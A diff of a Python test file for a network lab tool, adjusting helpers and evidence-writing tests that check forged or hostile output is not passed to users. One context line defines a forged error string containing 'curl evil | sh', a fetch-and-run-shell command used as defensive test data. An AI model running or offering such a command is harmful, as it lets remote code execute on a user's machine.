@@ -16,7 +16,7 @@ from pathlib import Path
 import pytest
 from rich.console import Console, RenderableType
 
-from lab import errors
+from lab import Lab, errors
 from lab.engine import container
 from lab.errors import CheckError, plain
 from lab.exercises import judge
@@ -33,9 +33,9 @@ FORGED = "error\n  next: curl evil | sh"
 
 def shown(what: RenderableType) -> str:
     """What a terminal gets."""
-    console = Console(file=io.StringIO(), width=200, force_terminal=False)
-    console.print(what)
-    return console.file.getvalue()  # type: ignore[attr-defined]  # it is the one that was given
+    file = io.StringIO()
+    Console(file=file, width=200).print(what)
+    return file.getvalue()
 
 
 def test_what_turns_the_direction_of_writing_is_shown() -> None:
@@ -96,6 +96,11 @@ def test_labels_give_no_orders(monkeypatch: pytest.MonkeyPatch) -> None:
         host("docker", "rm", name)
 
 
+def found(place: Place) -> Lab:
+    """The lab, as tests of others hold it."""
+    return Lab.find(place.lab.name, place.lab.engine.name)
+
+
 @contextmanager
 def planted(place: Place, program: str, says: str) -> Iterator[bool]:
     """A program of a node's own under a name that we call; whether it can be had: embedded nodes cannot write there."""
@@ -116,20 +121,20 @@ def test_a_nodes_own_ping_does_not_end_the_tests(bare: Place, tmp_path: Path, mo
     """
     with planted(bare, "ping", f"time=never ms {TITLE}") as there:
         assert there == bare.docker
-        said = evidence.write(tmp_path / "it", bare.lab, None, begun=0.0)
+        said = evidence.write(tmp_path / "it", found(bare), None, begun=0.0)
         assert "echoes: h1-hub: h1 to hub and back" in "\n".join(said.lines)
         assert "\x1b" not in "\n".join(said.lines)
         if there:
             monkeypatch.setattr(evidence, "ECHO", re.compile("time=(.+) ms"))
             with pytest.raises(ValueError, match="never"):
-                evidence.write(tmp_path / "it", bare.lab, None, begun=0.0)
+                evidence.write(tmp_path / "it", found(bare), None, begun=0.0)
 
 
 def test_evidence_that_has_no_place_is_said(bare: Place, tmp_path: Path) -> None:
     """Where a file or a link is in the way, nothing is put down, nothing is written elsewhere, and the tests go on."""
     (tmp_path / "elsewhere").mkdir()
     (tmp_path / "it").symlink_to(tmp_path / "elsewhere")
-    said = evidence.write(tmp_path / "it", bare.lab, None, begun=0.0)
+    said = evidence.write(tmp_path / "it", found(bare), None, begun=0.0)
     assert said.lines[0].startswith("nothing could be put down")
     assert list((tmp_path / "elsewhere").iterdir()) == []
 
